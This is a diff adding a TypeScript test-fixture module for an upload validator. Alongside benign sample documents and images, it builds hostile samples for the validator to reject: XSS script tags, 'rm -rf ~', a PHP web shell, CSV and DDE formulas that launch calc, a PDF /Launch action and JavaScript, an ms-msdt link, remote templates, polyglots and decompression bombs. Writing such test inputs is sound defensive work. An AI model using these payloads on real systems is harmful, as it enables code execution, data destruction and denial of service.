@@ -1,0 +1,459 @@
+import { deflateSync } from 'node:zlib'
+import sharp from 'sharp'
+import { writeDocx } from '../../testing/docx.ts'
+import { assemble, firstExtra, stream, writePdf } from '../../testing/pdf.ts'
+import { writeZip, type ZipPart } from '../../testing/zip.ts'
+
+const MEGABYTE = 1024 * 1024
+const WORDS = 'Slutrapport'
+const PAGE = [{ text: WORDS, x: 60, y: 60 }]
+const PACKAGE = 'http://schemas.openxmlformats.org/package/2006'
+const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const SPREADSHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
+
+const bytesOf = (text: string): Uint8Array => Buffer.from(text)
+const joined = (...parts: (Uint8Array | string)[]): Uint8Array =>
+  Buffer.concat(parts.map((part) => Buffer.from(part as string)))
+
+export const pdf = (catalog = '', extra: string[] = []): Uint8Array => writePdf([PAGE], { catalog, extra })
+export const docx = (more: ZipPart[] = []): Uint8Array => writeDocx([WORDS], more)
+
+/** A workbook of one cell. `more` are parts that replace those of the same name, or come along. */
+function xlsx(more: ZipPart[] = [], mainType = `${SPREADSHEET}.sheet.main+xml`): Uint8Array {
+  const own: ZipPart[] = [
+    {
+      name: '[Content_Types].xml',
+      content: `<?xml version="1.0"?><Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${mainType}"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${SPREADSHEET}.worksheet+xml"/></Types>`,
+    },
+    {
+      name: '_rels/.rels',
+      content: `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
+    },
+    {
+      name: 'xl/workbook.xml',
+      content: `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><sheets><sheet name="Blad1" sheetId="1" r:id="r1"/></sheets></workbook>`,
+    },
+    {
+      name: 'xl/_rels/workbook.xml.rels',
+      content: `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
+    },
+    {
+      name: 'xl/worksheets/sheet1.xml',
+      content: `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>145</v></c></row></sheetData></worksheet>`,
+    },
+  ]
+  const names = new Set(more.map(({ name }) => name))
+  return writeZip([...own.filter(({ name }) => !names.has(name)), ...more])
+}
+
+const relationships = (...tags: string[]): ZipPart => ({
+  name: 'word/_rels/settings.xml.rels',
+  content: `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships">${tags.join('')}</Relationships>`,
+})
+const external = (type: string, target: string, mode = 'External') =>
+  `<Relationship Id="x" Type="${OFFICE}/${type}" Target="${target}" TargetMode="${mode}"/>`
+
+const picture = () =>
+  sharp({ create: { width: 40, height: 20, channels: 3, background: { r: 180, g: 20, b: 60 } } })
+export const png = () => picture().png().toBuffer()
+export const gif = () => picture().gif().toBuffer()
+const webp = () => picture().webp().toBuffer()
+/** A photograph, lying on its side, that tells where it was taken and with what. */
+export const photograph = () =>
+  picture()
+    .jpeg()
+    .withExif({
+      IFD0: { Make: 'Kameramärket', Artist: 'Kim Exempel' },
+      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '59/1 19/1 46/1' },
+    })
+    .withMetadata({ orientation: 6 })
+    .toBuffer()
+const moving = async () => {
+  const frames = await Promise.all(
+    [10, 200].map((r) =>
+      sharp({ create: { width: 8, height: 8, channels: 3, background: { r, g: 0, b: 0 } } })
+        .png()
+        .toBuffer(),
+    ),
+  )
+  return sharp(frames, { join: { animated: true } })
+    .gif()
+    .toBuffer()
+}
+
+/** A PNG that says how large it is, and holds next to nothing. */
+async function declaring(width: number, height: number): Promise<Uint8Array> {
+  const { crc32 } = await import('node:zlib')
+  const chunk = (type: string, data: Buffer) => {
+    const body = Buffer.concat([Buffer.from(type), data])
+    const around = Buffer.alloc(8)
+    around.writeUInt32BE(data.length)
+    around.writeUInt32BE(crc32(body), 4)
+    return Buffer.concat([around.subarray(0, 4), body, around.subarray(4)])
+  }
+  const head = Buffer.alloc(13)
+  head.writeUInt32BE(width)
+  head.writeUInt32BE(height, 4)
+  head.set([8, 2], 8)
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    chunk('IHDR', head),
+    chunk('IDAT', deflateSync(Buffer.alloc(1000))),
+    chunk('IEND', Buffer.alloc(0)),
+  ])
+}
+
+/** Objects in a packed list, where a search for words finds nothing. */
+const hiddenIn = (object: string): string => {
+  const text = `40 0 ${object}`
+  const packed = deflateSync(Buffer.from(text)).toString('latin1')
+  return stream(packed, '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode')
+}
+
+type Named = { name: string; bytes: () => Uint8Array | Promise<Uint8Array> }
+
+/** Files as people have them, and what they are. */
+export const WELCOME: Record<string, Named & { type: string }> = {
+  'a PDF': { name: 'Slutrapport.pdf', bytes: () => pdf(), type: 'application/pdf' },
+  'a PDF that opens at a page': {
+    name: 'a.pdf',
+    bytes: () => pdf('/OpenAction [6 0 R /Fit]'),
+    type: 'application/pdf',
+  },
+  'a PDF that goes to a page, by way of another object': {
+    name: 'a.pdf',
+    bytes: () => pdf(`/OpenAction ${firstExtra(1)} 0 R`, ['<< /S /GoTo /D [6 0 R /Fit] >>']),
+    type: 'application/pdf',
+  },
+  'a PDF with a packed list of objects': {
+    name: 'a.pdf',
+    bytes: () => pdf('', [hiddenIn('<< /Type /Font >>')]),
+    type: 'application/pdf',
+  },
+  'a PDF of another name': { name: 'Slutrapport.exe', bytes: () => pdf(), type: 'application/pdf' },
+  'a Word document': {
+    name: 'a.docx',
+    bytes: () => docx(),
+    type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+  },
+  'a Word document with links and a chart': {
+    name: 'a.docx',
+    bytes: () =>
+      docx([
+        relationships(
+          external('hyperlink', 'https://www.esf.se/'),
+          external('hyperlink', 'mailto:a@example.se'),
+        ),
+        { name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', content: xlsx() },
+      ]),
+    type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+  },
+  'a workbook': {
+    name: 'a.xlsx',
+    bytes: () => xlsx([{ name: 'xl/printerSettings/printerSettings1.bin', content: 'x' }]),
+    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+  },
+  'a table of values': {
+    name: 'a.csv',
+    bytes: () =>
+      bytesOf('Grupp;Antal;Andring\r\nKvinnor;145;-12\r\nMän;92;+3 jämfört med planen\r\n- okänt;1;\r\n'),
+    type: 'text/csv',
+  },
+  'a text': {
+    name: 'a.txt',
+    bytes: () => bytesOf('Färre än 3 < 4 deltog.\n=====\nTack!'),
+    type: 'text/plain',
+  },
+  'a PNG': { name: 'a.png', bytes: png, type: 'image/png' },
+  'a JPEG': { name: 'a.jpg', bytes: photograph, type: 'image/jpeg' },
+  'a WebP': { name: 'a.webp', bytes: webp, type: 'image/webp' },
+  'a GIF': { name: 'a.gif', bytes: gif, type: 'image/gif' },
+}
+
+/** Files that mean harm, or may do some, and the code of the refusal. */
+export const UNWELCOME: Record<string, Named & { code: string }> = {
+  'nothing at all': { name: 'a.pdf', bytes: () => new Uint8Array(), code: 'empty' },
+  'a web page that is called PDF': {
+    name: 'a.pdf',
+    bytes: () => bytesOf('<!doctype html><html><body><script>alert(1)</script></body></html>'),
+    code: 'markup',
+  },
+  'a web page with the beginning of a PDF in it': {
+    name: 'a.pdf',
+    bytes: () => joined('<html><script>alert(1)</script><!--', pdf(), '--></html>'),
+    code: 'markup',
+  },
+  'a drawing with a script': {
+    name: 'a.svg',
+    bytes: () => bytesOf('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+    code: 'markup',
+  },
+  'a drawing behind a comment and a declaration': {
+    name: 'a.png',
+    bytes: () =>
+      bytesOf('<?xml version="1.0"?><!-- x --><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+    code: 'markup',
+  },
+  'a text with a script far into it': {
+    name: 'a.txt',
+    bytes: () => bytesOf(`${'Bara ord. '.repeat(20_000)}<script>alert(1)</script>`),
+    code: 'markup',
+  },
+  'a script in UTF-16': {
+    name: 'a.txt',
+    bytes: () => Buffer.from('\ufeffOrd <script>alert(1)</script>', 'utf16le'),
+    code: 'markup',
+  },
+  'a program for the shell': { name: 'a.txt', bytes: () => bytesOf('#!/bin/sh\nrm -rf ~\n'), code: 'script' },
+  'a program for a server': {
+    name: 'a.txt',
+    bytes: () => bytesOf('x <?php system($_GET[0]); ?>'),
+    code: 'script',
+  },
+  'a program for Windows': {
+    name: 'a.docx',
+    bytes: () => joined('MZ', new Uint8Array(500)),
+    code: 'otherFormat',
+  },
+  'a zip of anything': {
+    name: 'a.docx',
+    bytes: () => writeZip([{ name: 'a.exe', content: 'MZ' }]),
+    code: 'otherFormat',
+  },
+  'a zip with a folder called as in Word': {
+    name: 'a.docx',
+    bytes: () => writeZip([{ name: 'word/a.xml', content: '<x/>' }]),
+    code: 'otherFormat',
+  },
+  'a table with a program in a cell': {
+    name: 'a.csv',
+    bytes: () => bytesOf("Namn;Antal\n=cmd|'/c calc'!A0;1\n"),
+    code: 'formulas',
+  },
+  'a table with a call behind a plus': {
+    name: 'a.csv',
+    bytes: () => bytesOf('Namn,Antal\n"+HYPERLINK(""http://a.example"")",1\n'),
+    code: 'formulas',
+  },
+  'an older Word document': {
+    name: 'a.doc',
+    bytes: () =>
+      joined(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), new Uint8Array(600)),
+    code: 'oldOffice',
+  },
+  'a PDF with a script': {
+    name: 'a.pdf',
+    bytes: () => pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
+    code: 'pdfScript',
+  },
+  'a PDF with a script whose name is written as numbers': {
+    name: 'a.pdf',
+    bytes: () => pdf('/OpenAction << /S /J#61vaScr#69pt /JS (app.alert\\(1\\)) >>'),
+    code: 'pdfScript',
+  },
+  'a PDF with a script in a packed list of objects': {
+    name: 'a.pdf',
+    bytes: () => pdf('', [hiddenIn('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')]),
+    code: 'pdfScript',
+  },
+  'a PDF whose list of objects is packed as nobody does it': {
+    name: 'a.pdf',
+    bytes: () => pdf('', [stream('3430>', '/Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode')]),
+    code: 'broken',
+  },
+  'a PDF whose list of objects unpacks without end': {
+    name: 'a.pdf',
+    bytes: () =>
+      pdf('', [
+        stream(
+          deflateSync(Buffer.alloc(220 * MEGABYTE, 32)).toString('latin1'),
+          '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode',
+        ),
+      ]),
+    code: 'unpacksToTooMuch',
+  },
+  'a PDF that starts a program': {
+    name: 'a.pdf',
+    bytes: () => pdf('', ['<< /S /Launch /F (calc.exe) >>']),
+    code: 'pdfScript',
+  },
+  'a PDF that goes to an address when it is opened': {
+    name: 'a.pdf',
+    bytes: () => pdf('/OpenAction << /S /URI /URI (http://a.example/) >>'),
+    code: 'pdfOpens',
+  },
+  'a PDF that does so by way of another object': {
+    name: 'a.pdf',
+    bytes: () => pdf(`/OpenAction ${firstExtra(1)} 0 R`, ['<< /S /URI /URI (http://a.example/) >>']),
+    code: 'pdfOpens',
+  },
+  'a PDF that does so by way of a packed object': {
+    name: 'a.pdf',
+    bytes: () => pdf('/OpenAction 40 0 R', [hiddenIn('<< /S /URI /URI (http://a.example/) >>')]),
+    code: 'pdfOpens',
+  },
+  'a PDF that does something at each page': {
+    name: 'a.pdf',
+    bytes: () => pdf('/AA << /WC << /S /Named /N /Print >> >>'),
+    code: 'pdfOpens',
+  },
+  'a PDF with a file in it': {
+    name: 'a.pdf',
+    bytes: () =>
+      pdf(`/Names << /EmbeddedFiles << /Names [(a.exe) ${firstExtra(1)} 0 R] >> >>`, [
+        `<< /Type /Filespec /F (a.exe) /EF << /F ${firstExtra(1) + 1} 0 R >> >>`,
+        stream('MZ'),
+      ]),
+    code: 'pdfEmbeds',
+  },
+  'a PDF under a password': {
+    name: 'a.pdf',
+    bytes: () =>
+      writePdf([PAGE], {
+        trailer: `/Encrypt ${firstExtra(1)} 0 R /ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>]`,
+        extra: [`<< /Filter /Standard /V 1 /R 2 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>`],
+      }),
+    code: 'passwordProtected',
+  },
+  'a PDF that is also a zip': {
+    name: 'a.pdf',
+    bytes: () => joined(pdf(), writeZip([{ name: 'a.class', content: 'x' }])),
+    code: 'polyglot',
+  },
+  'a PDF that is also a zip, and ends as a PDF does': {
+    name: 'a.pdf',
+    bytes: () => joined(pdf(), writeZip([{ name: 'a.class', content: 'x' }]), '\n%%EOF\n'),
+    code: 'polyglot',
+  },
+  'a PDF that is also a web page': {
+    name: 'a.pdf',
+    bytes: () => joined(pdf(), '<html><script>alert(1)</script></html>'),
+    code: 'polyglot',
+  },
+  'a PDF that begins further in': { name: 'a.pdf', bytes: () => joined('GIF89a=1;', pdf()), code: 'broken' },
+  'the beginning of a PDF': { name: 'a.pdf', bytes: () => pdf().subarray(0, 300), code: 'broken' },
+  'a PDF of no pages': {
+    name: 'a.pdf',
+    bytes: () => assemble(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
+    code: 'broken',
+  },
+  'a Word document with macros': {
+    name: 'a.docx',
+    bytes: () => docx([{ name: 'word/vbaProject.bin', content: 'Attribute VB_Name' }]),
+    code: 'macros',
+  },
+  'a workbook that says that it has macros': {
+    name: 'a.xlsx',
+    bytes: () => xlsx([], 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
+    code: 'macros',
+  },
+  'a workbook with macros of the oldest kind': {
+    name: 'a.xlsx',
+    bytes: () => xlsx([{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }]),
+    code: 'macros',
+  },
+  'a Word document whose template lies elsewhere': {
+    name: 'a.docx',
+    bytes: () => docx([relationships(external('attachedTemplate', 'http://a.example/a.dotm'))]),
+    code: 'reachesOut',
+  },
+  'one that writes so in numbers': {
+    name: 'a.docx',
+    bytes: () =>
+      docx([relationships(external('attachedTemplate', 'http://a.example/a.dotm', '&#69;xternal'))]),
+    code: 'reachesOut',
+  },
+  'a Word document with a link that starts a program': {
+    name: 'a.docx',
+    bytes: () => docx([relationships(external('hyperlink', 'ms-msdt:/id'))]),
+    code: 'reachesOut',
+  },
+  'a Word document with a field that asks another program': {
+    name: 'a.docx',
+    bytes: () =>
+      docx([
+        {
+          name: 'word/footer1.xml',
+          content:
+            '<w:ftr xmlns:w="x"><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x "/k calc"</w:instrText></w:r></w:ftr>',
+        },
+      ]),
+    code: 'reachesOut',
+  },
+  'a workbook with values of other files': {
+    name: 'a.xlsx',
+    bytes: () => xlsx([{ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' }]),
+    code: 'reachesOut',
+  },
+  'a Word document with an object in it': {
+    name: 'a.docx',
+    bytes: () => docx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
+    code: 'embedded',
+  },
+  'a Word document with a web page in it': {
+    name: 'a.docx',
+    bytes: () => docx([{ name: 'word/afchunk.html', content: '<script>alert(1)</script>' }]),
+    code: 'embedded',
+  },
+  'a Word document with a document with macros in it': {
+    name: 'a.docx',
+    bytes: () =>
+      docx([
+        {
+          name: 'word/embeddings/a.xlsx',
+          content: xlsx([{ name: 'xl/vbaProject.bin', content: 'x' }]),
+        },
+      ]),
+    code: 'macros',
+  },
+  'a Word document with definitions': {
+    name: 'a.docx',
+    bytes: () => docx([{ name: 'word/a.xml', content: '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' }]),
+    code: 'broken',
+  },
+  'a Word document with a part in an encoding of its own': {
+    name: 'a.docx',
+    bytes: () => docx([{ name: 'word/a.xml', content: Buffer.from('\ufeff<x/>', 'utf16le') }]),
+    code: 'broken',
+  },
+  'a Word document that is also a PDF': {
+    name: 'a.docx',
+    bytes: () =>
+      writeZip([
+        { name: 'a.xml', content: pdf() },
+        { name: 'word/document.xml', content: '<x/>' },
+      ]),
+    code: 'polyglot',
+  },
+  'a workbook that unpacks without end': {
+    name: 'a.xlsx',
+    bytes: () =>
+      xlsx([{ name: 'xl/worksheets/sheet2.xml', content: ' '.repeat(260 * MEGABYTE), deflate: true }]),
+    code: 'unpacksToTooMuch',
+  },
+  'a workbook that unpacks to more than it says': {
+    name: 'a.xlsx',
+    bytes: () =>
+      xlsx([
+        {
+          name: 'xl/worksheets/sheet2.xml',
+          content: ' '.repeat(30 * MEGABYTE),
+          deflate: true,
+          declaredSize: 100,
+        },
+      ]),
+    code: 'broken',
+  },
+  'a picture that says it has 60,000 by 60,000 pixels': {
+    name: 'a.png',
+    bytes: () => declaring(60_000, 60_000),
+    code: 'tooManyPixels',
+  },
+  'half a picture': { name: 'a.png', bytes: async () => (await png()).subarray(0, 60), code: 'broken' },
+  'a picture that moves': { name: 'a.gif', bytes: moving, code: 'animated' },
+  'a script that begins as a GIF does': {
+    name: 'a.gif',
+    bytes: () => bytesOf('GIF89a/*\u0001\u0000*/=1;alert(1)//'),
+    code: 'broken',
+  },
+}
